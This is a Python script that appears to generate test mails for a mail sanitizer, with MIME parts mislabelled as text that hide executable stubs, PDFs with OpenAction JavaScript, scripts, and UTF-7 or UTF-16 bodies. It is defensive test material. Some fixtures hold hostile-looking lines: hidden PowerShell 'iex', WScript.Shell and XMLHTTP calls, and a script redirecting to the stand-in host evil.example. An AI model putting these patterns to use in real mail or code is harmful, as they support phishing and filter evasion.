#!/usr/bin/env python3
"""Generate testdata/labels/: parts whose labels lie about what they are (issue 10, classes 1,
2, 3 and 8).

Every case is a mail (or, for class 2, a raw file that is not a mail) plus a facts file in the
format of testdata/README.md, with the optional facts `absent`, `min_removed` and `changed`.

  class 1  text parts that are not text (name=/filename=, binary signature, control bytes,
           nameless inline base64 PE, two Content-Disposition fields)
  class 2  not-a-mail input that is a binary: only the notice, no salvaged strings
  class 3  conflicting labels: two Content-Type fields, HTML sent as text/plain
  class 8  readability: UTF-7 and UTF-16 bodies, encoded message/rfc822, forwarded .eml

Standard library only and deterministic: running it twice gives byte-identical files.

    python3 testdata/gen_labels.py           # write testdata/labels/, then verify
    python3 testdata/gen_labels.py --check   # verify what is on disk
"""

from __future__ import annotations

import base64
import email
import email.policy
import gzip
import hashlib
import io
import pathlib
import quopri
import re
import sys
import tomllib
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE / "labels"

CASES = []


def case(name):
    def wrap(fn):
        CASES.append((name, fn))
        return fn

    return wrap


def tok(nn: int, tag: str) -> str:
    """A payload token: unique per case, >= 12 characters."""
    h = hashlib.sha256(f"labels-{nn}-{tag}".encode()).hexdigest()[:6]
    return f"PAYLOAD-L{nn:02d}-{tag}-{h}"


def mk(nn: int, tag: str) -> str:
    return f"MARKER-L{nn:02d}-{tag}"


def head(nn: int, subject_b64: str = "44Op44OZ44Or5qSc5p+7", extra: str = "") -> str:
    """Top-level header block (without the blank line). Subject: ラベル検査 in UTF-8."""
    return (
        "From: =?UTF-8?B?6YCB5L+h6ICF?= <sender@example.co.jp>\r\n"
        "To: somu@city.example.lg.jp\r\n"
        f"Subject: =?UTF-8?B?{subject_b64}?=\r\n"
        "Date: Tue, 04 Jun 2024 10:00:00 +0900\r\n"
        f"Message-ID: <labels-{nn:02d}@example.co.jp>\r\n"
        "MIME-Version: 1.0\r\n" + extra
    )


def b64(data: bytes) -> str:
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i : i + 76] for i in range(0, len(s), 76))


def qp(data: bytes) -> str:
    """Quoted-printable with CRLF line breaks (the encoded data's CRLF become hard breaks)."""
    return quopri.encodestring(data.replace(b"\r\n", b"\n")).decode("ascii").replace("\n", "\r\n")


def mixed(boundary: str, parts: list[str]) -> str:
    out = f"Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n"
    for p in parts:
        out += f"--{boundary}\r\n{p}\r\n"
    return out + f"--{boundary}--\r\n"


def text_part(body: str, charset: str = "UTF-8") -> str:
    return (
        f"Content-Type: text/plain; charset={charset}\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n" + body
    )


# --------------------------------------------------------------------------------------------
# Binary payloads with a visible token
# --------------------------------------------------------------------------------------------


def pe(token: str) -> bytes:
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 7)
    dos += b"\x40" + b"\x00" * (0x3C - len(dos) - 1)
    dos += (0x80).to_bytes(4, "little")
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos))
    dos += b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 16
    dos += token.encode() + b"\x00" * 40 + b"kernel32.dll\x00\x00" + b"\x00" * 64
    return bytes(dos)


def elf(token: str) -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 40 + token.encode() + b"\x00" * 32


def zipped(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2024, 6, 4, 10, 0, 0))
            z.writestr(info, data)
    return buf.getvalue()


def ole2(token: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 32 + token.encode() + b"\x00" * 48


def pdf(token: str) -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('"
        + token.encode()
        + b"')) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def rar(token: str) -> bytes:
    return b"Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00" + token.encode() + b"\x00" * 24


def sevenzip(token: str) -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + token.encode() + b"\x01\x04\x06\x00" * 8


def gz(token: str) -> bytes:
    # Level 0 keeps the data stored, so the token is visible in the compressed bytes.
    return gzip.compress(b"#!/bin/sh\necho " + token.encode() + b"\n", compresslevel=0, mtime=0)


def nul_heavy(token: str) -> bytes:
    """A record dump without any signature: mostly NUL and small integers."""
    out = bytearray()
    for i in range(64):
        out += bytes([i % 7, 0, 0, 0, (i * 13) % 31, 0, 0, 0])
        if i == 20:
            out += token.encode() + b"\x00"
    return bytes(out)


# --------------------------------------------------------------------------------------------
# Class 1: text parts that are not text
# --------------------------------------------------------------------------------------------


@case("text-plain-name-pe")
def c_name_pe(nn):
    t = tok(nn, "PE")
    m = mk(nn, "BODY")
    body = mixed("b1", [
        text_part(f"請求書を送付します。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=us-ascii; name=\"invoice.txt\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(pe(t)),
    ])
    return head(nn) + body, dict(
        description="class 1: text/plain with name=\"invoice.txt\" (no disposition) whose base64 body is a PE",
        markers=[m], listed=["invoice.txt"], payloads=[t],
        absent=["This program cannot be run"], changed=True,
    )


@case("text-plain-inline-filename-apple")
def c_apple(nn):
    t = tok(nn, "TXT")
    m = mk(nn, "BODY")
    body = mixed("b2", [
        text_part(f"メモを添付します。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=UTF-8\r\n"
        "Content-Disposition: inline; filename=\"memo.txt\"\r\n"
        "Content-Transfer-Encoding: 7bit\r\n\r\n"
        f"set x = CreateObject(\"WScript.Shell\")\r\nx.Run \"{t}\"\r\n",
    ])
    return head(nn) + body, dict(
        description="class 1: Apple Mail style inline text/plain with filename=memo.txt: removed and listed, never rendered",
        markers=[m], listed=["memo.txt"], payloads=[t], changed=True,
    )


@case("text-plain-rfc2231-name-elf")
def c_rfc2231_elf(nn):
    t = tok(nn, "ELF")
    m = mk(nn, "BODY")
    body = mixed("b3", [
        text_part(f"資料です。\r\n{m}\r\n"),
        "Content-Type: text/plain;\r\n name*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.txt\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(elf(t)),
    ])
    return head(nn) + body, dict(
        description="class 1: text/plain with an RFC 2231 name*= (請求書.txt) whose body is an ELF binary",
        markers=[m], listed=["請求書.txt"], payloads=[t], changed=True,
    )


@case("nameless-inline-base64-pe")
def c_nameless_pe(nn):
    t = tok(nn, "PE")
    body = (
        "Content-Type: text/plain; charset=us-ascii\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(pe(t)) + "\r\n"
    )
    return head(nn) + body, dict(
        description="class 1: the only body is a nameless inline base64 text/plain holding a PE",
        payloads=[t], absent=["This program cannot be run", "kernel32.dll"],
        min_removed=1, changed=True,
    )


@case("text-html-zip")
def c_html_zip(nn):
    t = tok(nn, "ZIP")
    m = mk(nn, "BODY")
    z = zipped([("invoice.js", f"WScript.Echo('{t}');".encode())])
    body = mixed("b5", [
        text_part(f"ご確認ください。\r\n{m}\r\n"),
        "Content-Type: text/html; charset=UTF-8\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(z),
    ])
    return head(nn) + body, dict(
        description="class 1: a nameless text/html part whose decoded bytes are a ZIP with a .js entry",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("text-plain-qp-pdf")
def c_qp_pdf(nn):
    t = tok(nn, "PDF")
    m = mk(nn, "BODY")
    body = mixed("b6", [
        text_part(f"見積書です。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=ISO-8859-1\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n" + qp(pdf(t)),
    ])
    return head(nn) + body, dict(
        description="class 1: quoted-printable text/plain whose decoded bytes are a PDF with OpenAction JavaScript",
        markers=[m], payloads=[t], absent=["OpenAction"], min_removed=1, changed=True,
    )


@case("text-plain-control-bytes")
def c_control(nn):
    t = tok(nn, "NUL")
    m = mk(nn, "BODY")
    body = mixed("b7", [
        text_part(f"データを送ります。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=UTF-8\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(nul_heavy(t)),
    ])
    return head(nn) + body, dict(
        description="class 1: text/plain without a signature whose decoded bytes are mostly control bytes",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("double-disposition-inline-attachment")
def c_double_cd(nn):
    t = tok(nn, "BAT")
    m = mk(nn, "BODY")
    body = mixed("b8", [
        text_part(f"手順書です。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=us-ascii\r\n"
        "Content-Disposition: inline\r\n"
        "Content-Disposition: attachment\r\n"
        "Content-Transfer-Encoding: 7bit\r\n\r\n"
        f"@echo off\r\npowershell -w hidden -c \"iex {t}\"\r\n",
    ])
    return head(nn) + body, dict(
        description="class 1: two Content-Disposition fields (inline, then attachment): the part is an attachment",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("alternative-plain-is-ole2")
def c_alt_ole(nn):
    t = tok(nn, "OLE")
    m = mk(nn, "HTML")
    body = (
        "Content-Type: multipart/alternative; boundary=\"a9\"\r\n\r\n"
        "--a9\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64(ole2(t)) + "\r\n"
        "--a9\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        f"<html><body><p>会議資料の件 {m}</p></body></html>\r\n"
        "--a9--\r\n"
    )
    return head(nn) + body, dict(
        description="class 1: multipart/alternative whose text/plain is an OLE2 file: the HTML is shown, the OLE2 listed",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("text-plain-8bit-rar")
def c_rar(nn):
    t = tok(nn, "RAR")
    m = mk(nn, "BODY")
    raw = (head(nn) + "Content-Type: multipart/mixed; boundary=\"b10\"\r\n\r\n--b10\r\n"
           + text_part(f"圧縮ファイルです。\r\n{m}\r\n") + "\r\n--b10\r\n"
           "Content-Type: text/plain; charset=Shift_JIS\r\n"
           "Content-Transfer-Encoding: 8bit\r\n\r\n").encode("utf-8")
    raw += rar(t) + b"\r\n--b10--\r\n"
    return raw, dict(
        description="class 1: an 8bit text/plain (Shift_JIS label) whose raw bytes are a RAR archive",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("text-plain-blank-lines-then-zip")
def c_blank_zip(nn):
    t = tok(nn, "ZIP")
    m = mk(nn, "BODY")
    z = zipped([("setup.bat", f"@echo off\r\nstart {t}\r\n".encode())])
    body = mixed("b11", [
        text_part(f"設定ファイルです。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=UTF-8\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"\r\n\r\n" + z),
    ])
    return head(nn) + body, dict(
        description="class 1: a nameless text/plain whose decoded bytes are blank lines and then a stored ZIP",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


# --------------------------------------------------------------------------------------------
# Class 2: not-a-mail input that is a binary
# --------------------------------------------------------------------------------------------


def binary_case(description, data, t, absent):
    return data, dict(description=description, payloads=[t], absent=absent, min_removed=1, changed=True)


@case("not-a-mail-pe")
def c_nam_pe(nn):
    t = tok(nn, "PE")
    return binary_case("class 2: a raw PE executable piped in: only the notice, no strings",
                       pe(t), t, ["This program cannot be run", "kernel32.dll"])


@case("not-a-mail-elf")
def c_nam_elf(nn):
    t = tok(nn, "ELF")
    data = elf(t) + b"GLIBC_2.2.5 readable words here for the salvage\x00/lib64/ld-linux-x86-64.so.2\x00"
    return binary_case("class 2: a raw ELF binary: only the notice", data, t, ["GLIBC_2.2.5", "ld-linux"])


@case("not-a-mail-zip")
def c_nam_zip(nn):
    t = tok(nn, "ZIP")
    data = zipped([("readme.txt", f"Please run the installer now {t}\n".encode()), (f"{t}.exe", pe(t))])
    return binary_case("class 2: a raw ZIP archive: only the notice (no entry text)", data, t,
                       ["Please run the installer", "readme.txt"])


@case("not-a-mail-pdf")
def c_nam_pdf(nn):
    t = tok(nn, "PDF")
    return binary_case("class 2: a raw PDF with JavaScript: only the notice", pdf(t), t,
                       ["OpenAction", "JavaScript"])


@case("not-a-mail-gzip")
def c_nam_gzip(nn):
    t = tok(nn, "GZ")
    return binary_case("class 2: a raw gzip (stored) holding a shell script: only the notice", gz(t), t,
                       ["#!/bin/sh", "echo "])


@case("not-a-mail-ole2")
def c_nam_ole(nn):
    t = tok(nn, "OLE")
    data = ole2(t) + b"Microsoft Office Word Document macro text\x00\x00Document_Open\x00"
    return binary_case("class 2: a raw OLE2 document: only the notice", data, t,
                       ["Document_Open", "Microsoft Office Word"])


@case("not-a-mail-7z")
def c_nam_7z(nn):
    t = tok(nn, "7Z")
    return binary_case("class 2: a raw 7z archive: only the notice", sevenzip(t), t, [])


@case("not-a-mail-unsigned-binary")
def c_nam_unsigned(nn):
    t = tok(nn, "BIN")
    data = bytearray()
    for i in range(200):
        data += bytes([i % 5, 0, 0, 0, 0x10 + i % 9, 0, 0, 0])
        if i == 50:
            data += f"C:\\Windows\\Temp\\{t}.dll\x00".encode()
        if i == 120:
            data += f"cmd.exe/c/start/{t}\x00".encode()
    return binary_case("class 2: a signature-less binary (mostly NUL and control bytes) with path strings",
                       bytes(data), t, ["C:\\Windows", "cmd.exe"])


@case("not-a-mail-leading-newlines-pe")
def c_nam_nl_pe(nn):
    t = tok(nn, "PE")
    return binary_case("class 2: a raw PE after two blank lines (no header at all): only the notice",
                       b"\r\n\r\n" + pe(t), t, ["This program cannot be run", "kernel32.dll"])


# --------------------------------------------------------------------------------------------
# Class 3: conflicting labels
# --------------------------------------------------------------------------------------------


def html_doc(m: str, t: str, title: str = "お知らせ") -> str:
    return (
        f"<!DOCTYPE html>\r\n<html><head><title>{title}</title>"
        f"<style>.x{{color:red}}</style></head>\r\n<body>\r\n<p>本日の連絡事項 {m}</p>\r\n"
        f"<script>document.location='http://evil.example/'+'{t}';</script>\r\n</body></html>\r\n"
    )


@case("two-content-types-plain-then-html")
def c_two_ct(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    body = (
        "Content-Type: text/plain; charset=UTF-8\r\n"
        "Content-Type: text/html; charset=UTF-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
        f"<div><p>会議のお知らせ {m}</p><script>var k='{t}';</script><b>以上</b></div>\r\n"
    )
    return head(nn) + body, dict(
        description="class 3: two Content-Type fields (text/plain then text/html): the HTML reading is converted",
        markers=[m], payloads=[t], absent=["<script", "<div", "<p>"], changed=True,
    )


@case("html-document-as-text-plain")
def c_html_as_plain(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    body = "Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + html_doc(m, t)
    return head(nn) + body, dict(
        description="class 3: a whole <!DOCTYPE html> document with <script> sent as text/plain",
        markers=[m], payloads=[t], absent=["<script", "<html", "<!DOCTYPE", "<style"], changed=True,
    )


@case("html-as-text-plain-base64-sjis")
def c_html_as_plain_sjis(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    doc = "\r\n\r\n   <HTML><HEAD><META http-equiv=\"Content-Type\" content=\"text/html; charset=Shift_JIS\"></HEAD>" \
          f"<BODY><P>納品のご案内 {m}</P><SCRIPT language=\"JavaScript\">eval('{t}')</SCRIPT></BODY></HTML>\r\n"
    body = ("Content-Type: text/plain; charset=Shift_JIS\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(doc.encode("cp932")) + "\r\n")
    return head(nn) + body, dict(
        description="class 3: an upper-case <HTML> document after blank lines, Shift_JIS, base64, labelled text/plain",
        markers=[m, "納品のご案内"], payloads=[t], absent=["<SCRIPT", "<HTML", "<script"], changed=True,
    )


@case("html-fragment-as-text-plain")
def c_fragment(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    frag = (f"<div style=\"font-family:MS Gothic\"><p>ご担当者様</p><p>{m}</p>"
            f"<img src=x onerror=\"fetch('{t}')\"><br><a href=\"http://evil.example/login\">ログイン</a></div>\r\n")
    body = "Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + frag
    return head(nn) + body, dict(
        description="class 3: an HTML fragment (no <html>, dense tags, event handler) sent as text/plain",
        markers=[m, "ご担当者様"], payloads=[t], absent=["<div", "onerror", "<img"], changed=True,
    )


@case("alternative-both-html")
def c_alt_both_html(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    doc = html_doc(m, t)
    body = (
        "Content-Type: multipart/alternative; boundary=\"a14\"\r\n\r\n"
        "--a14\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + doc +
        "--a14\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + doc +
        "--a14--\r\n"
    )
    return head(nn) + body, dict(
        description="class 3: multipart/alternative whose text/plain alternative is the same HTML document",
        markers=[m], payloads=[t], absent=["<script", "<html"], changed=True,
    )


@case("two-content-types-text-then-binary")
def c_two_ct_bin(nn):
    t = tok(nn, "VBS")
    m = mk(nn, "BODY")
    body = mixed("b16", [
        text_part(f"スクリプトを送付します。\r\n{m}\r\n"),
        "Content-Type: text/plain; charset=us-ascii\r\n"
        "Content-Type: application/x-msdownload\r\n"
        "Content-Transfer-Encoding: 7bit\r\n\r\n"
        f"Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"{t}\"\r\n",
    ])
    return head(nn) + body, dict(
        description="class 3: two Content-Type fields (text/plain then application/x-msdownload): the attachment reading wins",
        markers=[m], payloads=[t], min_removed=1, changed=True,
    )


@case("xhtml-as-text-plain-with-prologue")
def c_xhtml(nn):
    t = tok(nn, "JS")
    m = mk(nn, "BODY")
    doc = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<!-- generated -->\r\n"
           "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>"
           f"<p>{m}</p><script type=\"text/javascript\">new Image().src='{t}';</script></body></html>\r\n")
    body = "Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + qp(doc.encode())
    return head(nn) + body, dict(
        description="class 3: an XHTML document (XML declaration and a comment before <html>) sent as quoted-printable text/plain",
        markers=[m], payloads=[t], absent=["<script", "<?xml", "<html"], changed=True,
    )


# --------------------------------------------------------------------------------------------
# Class 8: readability
# --------------------------------------------------------------------------------------------

JA_TEXT = "市役所からのお知らせです。申請の締切は六月末日です。"


@case("utf7-plain")
def c_utf7(nn):
    m = mk(nn, "UTF7")
    text = f"{JA_TEXT}\r\n{m}\r\n金額は 1+1 = 2 万円（税込）です。\r\n"
    body = "Content-Type: text/plain; charset=UTF-7\r\nContent-Transfer-Encoding: 7bit\r\n\r\n" + text.encode("utf-7").decode()
    return head(nn) + body, dict(
        description="class 8: a charset=UTF-7 text/plain body (Japanese, '+' and full-width brackets) must be decoded",
        markers=[m, "市役所からのお知らせです", "1+1 = 2 万円（税込）"],
        absent=[JA_TEXT[:4].encode("utf-7").decode()[:8]],
    )


@case("utf7-base64-cte")
def c_utf7_b64(nn):
    m = mk(nn, "UTF7")
    text = f"ご担当者様\r\n{m}\r\n添付の「資料～第２版」をご覧ください。\r\nC:\\temp\\file~1 と a+b\r\n"
    body = ("Content-Type: text/plain; charset=\"utf-7\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(text.encode("utf-7")) + "\r\n")
    return head(nn) + body, dict(
        description="class 8: UTF-7 body in a base64 transfer encoding, with ～ and a backslash path",
        markers=[m, "ご担当者様", "「資料～第２版」", "C:\\temp\\file~1"],
    )


@case("utf7-html-script")
def c_utf7_html(nn):
    t = tok(nn, "JS")
    m = mk(nn, "UTF7")
    html = f"<p>お知らせ {m}</p><script>alert('{t}')</script>"
    enc = "".join("+ADw-" if c == "<" else "+AD4-" if c == ">" else c.encode("utf-7").decode() for c in html)
    assert enc.encode().decode("utf-7") == html
    body = "Content-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: 7bit\r\n\r\n" + enc + "\r\n"
    return head(nn) + body, dict(
        description="class 8: UTF-7 HTML whose markup is itself UTF-7 encoded (+ADw-script+AD4-): decoded, then converted",
        markers=[m, "お知らせ"], payloads=[t], absent=["+ADw-", "<script", "alert("], changed=True,
    )


@case("utf16-label-be-bom")
def c_utf16_be_bom(nn):
    m = mk(nn, "UTF16")
    text = f"{JA_TEXT}\r\n{m}\r\n"
    body = ("Content-Type: text/plain; charset=UTF-16\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(b"\xfe\xff" + text.encode("utf-16-be")) + "\r\n")
    return head(nn) + body, dict(
        description="class 8: charset=UTF-16 body with a big-endian BOM (base64): the BOM decides the byte order",
        markers=[m, "市役所からのお知らせです"],
    )


@case("utf16-unlabelled-le-bom")
def c_utf16_unlabelled(nn):
    m = mk(nn, "UTF16")
    text = f"{JA_TEXT}\r\n{m}\r\n"
    body = ("Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(b"\xff\xfe" + text.encode("utf-16-le")) + "\r\n")
    return head(nn) + body, dict(
        description="class 8: a text/plain body without a charset label in UTF-16LE with its BOM",
        markers=[m, "申請の締切は六月末日です"],
    )


@case("utf16-label-be-no-bom")
def c_utf16_be_nobom(nn):
    m = mk(nn, "UTF16")
    text = f"{JA_TEXT}\r\n{m}\r\n"
    body = ("Content-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(text.encode("utf-16-be")) + "\r\n")
    return head(nn) + body, dict(
        description="class 8: charset=utf-16 without a BOM in big-endian order (RFC 2781 default; the zero bytes agree)",
        markers=[m, "市役所からのお知らせです"],
    )


@case("utf16-bom-mislabelled-utf8")
def c_utf16_bom_utf8(nn):
    m = mk(nn, "UTF16")
    text = f"{JA_TEXT}\r\n{m}\r\n"
    body = ("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(b"\xfe\xff" + text.encode("utf-16-be")) + "\r\n")
    return head(nn) + body, dict(
        description="class 8: a UTF-16BE body with its BOM but labelled utf-8: the BOM wins",
        markers=[m, "市役所からのお知らせです"],
    )


def inner_message(nn: int, m: str, t: str, name: str) -> str:
    return (
        "From: tanaka@example.co.jp\r\nTo: sato@example.co.jp\r\n"
        "Subject: =?UTF-8?B?6KaL56mN5pu4?=\r\nDate: Mon, 03 Jun 2024 09:00:00 +0900\r\n"
        "MIME-Version: 1.0\r\n"
        + mixed(f"in{nn}", [
            text_part(f"元のメールの本文です。\r\n{m}\r\n"),
            f"Content-Type: application/octet-stream; name=\"{name}\"\r\n"
            f"Content-Disposition: attachment; filename=\"{name}\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(pe(t)),
        ])
    )


@case("rfc822-base64-encoded")
def c_rfc822_b64(nn):
    t = tok(nn, "PE")
    m_out, m_in = mk(nn, "OUTER"), mk(nn, "INNER")
    inner = inner_message(nn, m_in, t, "setup.exe")
    body = mixed("b23", [
        text_part(f"転送します。\r\n{m_out}\r\n"),
        "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(inner.encode()),
    ])
    return head(nn) + body, dict(
        description="class 8: message/rfc822 with an (illegal) base64 transfer encoding: decoded and rendered, its attachment listed",
        markers=[m_out, m_in, "元のメールの本文です"], listed=["setup.exe"], payloads=[t], changed=True,
    )


@case("rfc822-quoted-printable")
def c_rfc822_qp(nn):
    t = tok(nn, "PE")
    m_in = mk(nn, "INNER")
    inner = inner_message(nn, m_in, t, "tool.scr")
    body = mixed("b24", [
        text_part("転送します。\r\n"),
        "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + qp(inner.encode()),
    ])
    return head(nn) + body, dict(
        description="class 8: message/rfc822 with a quoted-printable transfer encoding (UTF-8 inner text)",
        markers=[m_in, "元のメールの本文です"], listed=["tool.scr"], payloads=[t], changed=True,
    )


@case("forwarded-eml-with-filename")
def c_fwd_eml(nn):
    t = tok(nn, "PE")
    m_in = mk(nn, "INNER")
    inner = inner_message(nn, m_in, t, "invoice.exe")
    body = mixed("b25", [
        text_part(f"元のメールを添付します。\r\n{mk(nn, 'OUTER')}\r\n"),
        "Content-Type: message/rfc822; name=\"=?UTF-8?B?5YWD44Oh44O844OrLmVtbA==?=\"\r\n"
        "Content-Disposition: attachment; filename=\"=?UTF-8?B?5YWD44Oh44O844OrLmVtbA==?=\"\r\n\r\n" + inner,
    ])
    return head(nn) + body, dict(
        description="class 8: a forwarded .eml attachment (message/rfc822 with filename 元メール.eml): named in the notice and rendered",
        markers=[m_in, mk(nn, "OUTER")], listed=["元メール.eml", "invoice.exe"], payloads=[t], changed=True,
    )


@case("forwarded-eml-base64-with-filename")
def c_fwd_eml_b64(nn):
    t = tok(nn, "PE")
    m_in = mk(nn, "INNER")
    inner = inner_message(nn, m_in, t, "update.exe")
    body = mixed("b26", [
        text_part("ご確認ください。\r\n"),
        "Content-Type: message/rfc822\r\n"
        "Content-Disposition: attachment; filename=\"forwarded.eml\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(inner.encode()),
    ])
    return head(nn) + body, dict(
        description="class 8: a base64-encoded forwarded.eml attachment: decoded, rendered, named in the notice",
        markers=[m_in], listed=["forwarded.eml", "update.exe"], payloads=[t], changed=True,
    )


# --------------------------------------------------------------------------------------------
# Writing and checking
# --------------------------------------------------------------------------------------------


def toml_str(s: str) -> str:
    out = '"'
    for ch in s:
        if ch == '"':
            out += '\\"'
        elif ch == "\\":
            out += "\\\\"
        elif ord(ch) < 0x20:
            out += f"\\u{ord(ch):04x}"
        else:
            out += ch
    return out + '"'


def facts_toml(f: dict) -> str:
    lines = [f"description = {toml_str(f['description'])}"]
    for key in ("markers", "listed", "payloads", "absent"):
        vals = f.get(key) or []
        if vals:
            lines.append(f"{key} = [")
            lines += [f"  {toml_str(v)}," for v in vals]
            lines.append("]")
    if f.get("min_removed"):
        lines.append(f"min_removed = {f['min_removed']}")
    if f.get("changed"):
        lines.append("changed = true")
    return "\n".join(lines) + "\n"


def build():
    built = []
    for n, (name, fn) in enumerate(CASES, start=1):
        data, facts = fn(n)
        if isinstance(data, str):
            data = data.encode("utf-8")
        built.append((f"{n:02d}-{name}", data, facts))
    return built


def present_somewhere(data: bytes, token: str) -> bool:
    """Whether the token is in the mail raw, in some transfer-decoded part, or inside base64
    or quoted-printable text at any nesting (encoded message/rfc822)."""
    tb = token.encode()
    stack = [(data, 0)]
    while stack:
        raw, depth = stack.pop()
        if tb in raw:
            return True
        if depth >= 3:
            continue
        msg = email.message_from_bytes(raw, policy=email.policy.compat32)
        for part in msg.walk():
            payload = part.get_payload(decode=True)
            if isinstance(payload, bytes) and tb in payload:
                return True
        stack.append((quopri.decodestring(raw), depth + 1))
        for block in re.findall(rb"(?:^[A-Za-z0-9+/=]{8,76}\r?\n)+", raw, re.M):
            stack.append((base64.b64decode(re.sub(rb"\s", b"", block) + b"==", validate=False), depth + 1))
    return False


def check(built) -> list[str]:
    problems = []
    seen = set()
    for stem, data, facts in built:
        for t in facts.get("payloads", []):
            if len(t) < 12 or t in seen:
                problems.append(f"{stem}: payload {t!r} too short or not unique")
            seen.add(t)
            if not present_somewhere(data, t):
                problems.append(f"{stem}: payload {t!r} not present in the input")
        text = facts_toml(facts)
        if tomllib.loads(text)["description"] != facts["description"]:
            problems.append(f"{stem}: facts do not round-trip")
    return problems


def main():
    built = build()
    if "--check" in sys.argv:
        for stem, data, facts in built:
            eml = OUT / f"{stem}.eml"
            if not eml.exists() or eml.read_bytes() != data:
                print(f"{stem}: differs from the generator")
                sys.exit(1)
    else:
        OUT.mkdir(exist_ok=True)
        for old in OUT.iterdir():
            if old.suffix in (".eml", ".toml"):
                old.unlink()
        for stem, data, facts in built:
            (OUT / f"{stem}.eml").write_bytes(data)
            (OUT / f"{stem}.toml").write_text(facts_toml(facts), encoding="utf-8")
    problems = check(built)
    for p in problems:
        print(p)
    print(f"{len(built)} cases in {OUT.relative_to(HERE.parent)}; {len(problems)} problem(s)")
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
